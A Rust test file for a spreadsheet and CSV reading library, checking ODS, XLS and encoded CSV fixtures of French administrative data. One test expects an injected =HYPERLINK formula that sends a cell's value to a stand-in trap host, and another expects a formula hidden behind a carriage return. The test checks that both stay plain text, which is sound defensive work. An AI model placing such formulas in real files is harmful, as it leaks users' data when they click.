//! The other fixtures: ods, xls and delimited text.

use chrono::NaiveDate;
use documents::{Cell, Encoding, Format, Note};

use crate::{codes, open, text};

#[test]
fn an_ods_is_read_with_its_formulas_errors_and_empty_sheet() {
    let workbook = open("etablissements.ods");
    assert_eq!(workbook.format, Format::Ods);
    assert_eq!(workbook.sheets.len(), 2);
    let sheet = &workbook.sheets[0];
    assert_eq!(text(sheet, 3, 0), "Établissement");
    assert_eq!(text(sheet, 37, 0), "Total");
    let data = sheet.rows.iter().filter(|row| (4..=36).contains(&row.number) && !row.is_blank());
    assert_eq!(data.count(), 32);
    for row in [13, 26] {
        assert_eq!(text(sheet, row, 9), "#DIV/0!");
        assert!(matches!(sheet.row(row).unwrap().cell(9), Cell::Error(_)));
        assert!(sheet.row(row).unwrap().is_computed(9));
    }
    assert_eq!(sheet.row(4).unwrap().cell(8), &Cell::Date(NaiveDate::from_ymd_opt(2015, 9, 1).unwrap()));
    assert_eq!(text(sheet, 4, 6), "353016547");
    assert!(workbook.sheets[1].rows.is_empty());
}

#[test]
fn an_excel_97_workbook_is_read_with_numbers_dates_and_booleans() {
    let workbook = open("relais-de-quartier.xls");
    assert_eq!(workbook.format, Format::Xls);
    let sheet = &workbook.sheets[0];
    assert_eq!(sheet.rows.len(), 29);
    let dates = sheet.row(2).unwrap().cells.iter().filter_map(|cell| match cell {
        Cell::Date(date) => Some(*date),
        _ => None,
    });
    assert_eq!(dates.collect::<Vec<_>>(), [NaiveDate::from_ymd_opt(2014, 9, 1).unwrap()]);
    let has = |row: u32, wanted: fn(&Cell) -> bool| sheet.row(row).unwrap().cells.iter().any(wanted);
    assert!(has(2, |cell| matches!(cell, Cell::Bool(_))));
    for row in (3..=29).step_by(2) {
        assert!(has(row, |cell| matches!(cell, Cell::Number(_)) && cell.text().len() == 14), "SIRET of row {row}");
    }
}

#[test]
fn a_windows_csv_keeps_its_apostrophes_dashes_euros_and_ligatures() {
    let workbook = open("associations-excel-fr.csv");
    assert_eq!((workbook.encoding, workbook.separator), (Some(Encoding::Windows1252), Some(';')));
    let sheet = &workbook.sheets[0];
    assert_eq!(sheet.rows.len(), 41);
    let all: String = sheet.rows.iter().flat_map(|row| row.cells.iter().map(|cell| cell.text().into_owned())).collect();
    for character in ['’', '–', '€', 'œ', 'é', ';', '"'] {
        assert!(all.contains(character), "{character}");
    }
    assert!(all.contains("353015422"));
}

#[test]
fn a_byte_order_mark_is_no_part_of_the_first_header_and_line_breaks_stay_in_their_cell() {
    let workbook = open("communes-utf8-bom.csv");
    assert_eq!((workbook.encoding, workbook.separator), (Some(Encoding::Utf8Mark), Some(',')));
    let sheet = &workbook.sheets[0];
    assert_eq!(sheet.rows.len(), 27);
    assert!(text(sheet, 1, 0).chars().next().unwrap().is_alphabetic());
    assert!(sheet.rows.iter().any(|row| row.cells.iter().any(|cell| cell.text().ends_with("\n67140 ANDLAU"))));
    assert!(
        sheet.rows.iter().any(|row| row.cells.iter().any(|cell| cell.text().chars().any(|c| u32::from(c) > 0x1f000)))
    );
}

#[test]
fn unicode_text_from_excel_is_read() {
    let workbook = open("entreprises-texte-unicode.txt");
    assert_eq!((workbook.encoding, workbook.separator), (Some(Encoding::Utf16Le), Some('\t')));
    assert_eq!(workbook.sheets[0].rows.len(), 31);
    assert!(workbook.notes.contains(&Note::Decoded { encoding: Encoding::Utf16Le }));
}

#[test]
fn a_separator_line_is_obeyed_said_and_not_counted() {
    let workbook = open("forum-sep.csv");
    assert_eq!((workbook.encoding, workbook.separator), (Some(Encoding::Utf8), Some(';')));
    let sheet = &workbook.sheets[0];
    assert_eq!((sheet.rows.len(), sheet.rows[0].number), (25, 1));
    assert!(!text(sheet, 1, 0).contains("sep"));
    assert_eq!(codes(&workbook.notes), ["documents.separator_line"]);
}

#[test]
fn spreadsheet_errors_are_told_from_text_in_both_languages() {
    let workbook = open("moitie-en-erreur.csv");
    let sheet = &workbook.sheets[0];
    assert_eq!(sheet.rows.len(), 41);
    let errors: Vec<(u32, String)> = sheet
        .rows
        .iter()
        .flat_map(|row| row.cells.iter().map(|cell| (row.number, cell)))
        .filter(|(_, cell)| matches!(cell, Cell::Error(_)))
        .map(|(row, cell)| (row, cell.text().into_owned()))
        .collect();
    let expected = [(9, "#REF!"), (13, "#NOM?"), (21, "#N/A"), (23, "#VALEUR!")];
    assert_eq!(errors, expected.map(|(row, name)| (row, name.to_owned())));
}

#[test]
fn a_siret_destroyed_in_a_csv_stays_the_text_that_it_is() {
    let workbook = open("moitie-en-erreur.csv");
    let sheet = &workbook.sheets[0];
    for row in [15, 25] {
        let destroyed =
            sheet.row(row).unwrap().cells.iter().any(|cell| matches!(cell, Cell::Text(text) if text.contains("E+13")));
        assert!(destroyed, "row {row}");
    }
}

#[test]
fn formulas_in_a_csv_are_text_and_a_lone_cr_in_quotes_ends_no_row() {
    let workbook = open("injection-formules.csv");
    let sheet = &workbook.sheets[0];
    assert_eq!(sheet.rows.len(), 21);
    assert_eq!(text(sheet, 2, 0), r#"=HYPERLINK("http://piege.example/?"&B2;"Cliquez ici")"#);
    let cr = sheet.row(8).unwrap().cells.iter().find(|cell| cell.text().starts_with('\r')).unwrap();
    let repaired = cr.text().into_owned();
    assert_eq!(documents::repair(&repaired).text, "=1+2");
}
